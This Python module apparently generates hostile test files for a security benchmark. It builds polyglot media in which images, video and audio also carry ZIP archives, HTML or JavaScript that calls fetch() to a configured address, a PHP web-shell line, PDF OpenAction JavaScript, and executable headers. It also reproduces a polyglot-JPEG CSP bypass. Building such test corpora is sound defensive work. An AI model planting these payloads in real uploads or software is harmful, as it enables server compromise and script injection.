"""Files that are what they say and something else too, for whoever reads them by another name."""

from __future__ import annotations

import io
import tarfile
import zipfile

from benchmarks.hostile import samples
from benchmarks.hostile.parts import Address, Files, box, chunk, riff


def polyglots(to: Address) -> Files:
    """Honest media with an archive, a document, a page, a script or a program where its reader finds it."""
    for name, honest in _media():
        yield f"zip-behind-{name}", honest + _zip()
        yield f"zip-with-a-comment-behind-{name}", honest + _zip(comment=b"x" * 20_000)
        yield f"page-behind-{name}", honest + _page(to)
        yield f"php-behind-{name}", honest + b"<?php system($_GET['x']); ?>"
    for name, honest in _media():
        yield f"rar-behind-{name}", honest + b"Rar!\x1a\x07\x00" + bytes(20)
    yield from _inside(to)
    yield from _as_scripts(to)
    for trailer in (
        b"\x7fELF\x02\x01\x01" + bytes(60),
        b"MZ\x90\x00" + bytes(60),
        b"#!/bin/sh\nid\n",
        b"#EXTM3U\n" + to.http.encode(),
    ):
        for form in ("JPEG", "PNG"):
            yield f"trailer.{form.lower()}", samples.still(form) + trailer


def _media() -> Files:
    yield "picture.jpg", samples.still("JPEG")
    yield "picture.png", samples.still("PNG")
    yield "picture.webp", samples.still("WEBP")
    yield "clip.mp4", samples.clip()
    yield "clip.webm", samples.clip("webm", "libvpx")
    yield "sound.mp3", samples.sound("mp3", "libmp3lame")
    yield "sound.ogg", samples.sound("ogg", "libopus")


def _inside(to: Address) -> Files:
    """Near the beginning, in a place that the honest reader skips."""
    for label, secret in (
        ("pdf", _pdf()),
        ("page", _page(to)),
        ("php", b"<?php phpinfo(); ?>"),
        ("hta", b"<hta:application>"),
    ):
        yield f"{label}-in-comment.jpg", _commented_jpeg(secret)
        yield f"{label}-in-text.png", _texted_png(secret)
        yield f"{label}-in-free-box.mp4", _boxed_mp4(secret)
        yield f"{label}-in-list.wav", _listed_wav(secret)
        yield f"{label}-in-tag.mp3", _tagged_mp3(secret)
    yield "tar.jpg", _taken_apart_as_tar()
    yield "disc.mp4", _boxed_mp4(bytes(32_769 - 40) + b"CD001" * 20)


def _as_scripts(to: Address) -> Files:
    """JavaScript whose first word is the magic (Heyes, "Bypassing CSP using polyglot JPEGs", 2016)."""
    script = f"*/=fetch('{to.http}')/*".encode()
    jpeg = samples.still("JPEG")
    segment = b"\xff\xe0/*" + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + script
    yield "script.jpg", b"\xff\xd8" + segment + bytes(4 + 0x2F2A - len(segment) - 2) + jpeg[20:]
    yield "script.wav", b"RIFF=1/*WAVE" + script + samples.sound("wav", "pcm_s16le")[12:]
    yield "script.webp", b"RIFF/**/WEBP" + script + samples.still("WEBP")[12:]
    yield "script-2.wav", b"RIFF='00WAVE" + b"'" + script + samples.sound("wav", "pcm_s16le")[12:]


def _commented_jpeg(comment: bytes) -> bytes:
    jpeg = samples.still("JPEG")
    return jpeg[:2] + b"\xff\xfe" + (2 + len(comment)).to_bytes(2) + comment + jpeg[2:]


def _texted_png(text: bytes) -> bytes:
    png = samples.still("PNG")
    return png[:33] + chunk(b"tEXt", b"Comment\0" + text) + png[33:]


def _boxed_mp4(content: bytes) -> bytes:
    """A free box behind the first one; data offsets are then wrong, which no reader of the other kind minds."""
    mp4 = samples.clip()
    first = int.from_bytes(mp4[:4])
    return mp4[:first] + box(b"free", content) + mp4[first:]


def _listed_wav(content: bytes) -> bytes:
    wav = samples.sound("wav", "pcm_s16le")
    at = wav.index(b"data")
    return riff(b"WAVE", (b"fmt ", wav[20:36]), (b"LIST", b"INFOICMT" + len(content).to_bytes(4, "little") + content),
                (b"data", wav[at + 8 :]))  # fmt: skip


def _tagged_mp3(content: bytes) -> bytes:
    frame = b"COMM" + (5 + len(content)).to_bytes(4) + b"\0\0\0eng\0" + content
    size = len(frame)
    sized = bytes(size >> shift & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + sized + frame + samples.sound("mp3", "libmp3lame")[45:]


def _taken_apart_as_tar() -> bytes:
    """A JPEG whose first 512 bytes are also the head of a file in a tar, its name the picture's own magic."""
    tape = io.BytesIO()
    with tarfile.open(fileobj=tape, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        archive.addfile(tarfile.TarInfo("x"))
    jpeg = samples.still("JPEG")
    head = bytearray(tape.getvalue()[:512])
    head[:4] = b"\xff\xd8\xff\xfe"
    head[4:6] = (510 - 4 + 2).to_bytes(2)
    return bytes(head) + jpeg[2:]


def _zip(comment: bytes = b"") -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("run.class", b"\xca\xfe\xba\xbe")
        archive.comment = comment
    return packed.getvalue()


def _pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n"


def _page(to: Address) -> bytes:
    return f"<html><body><script>fetch('{to.http}')</script></body></html>".encode()
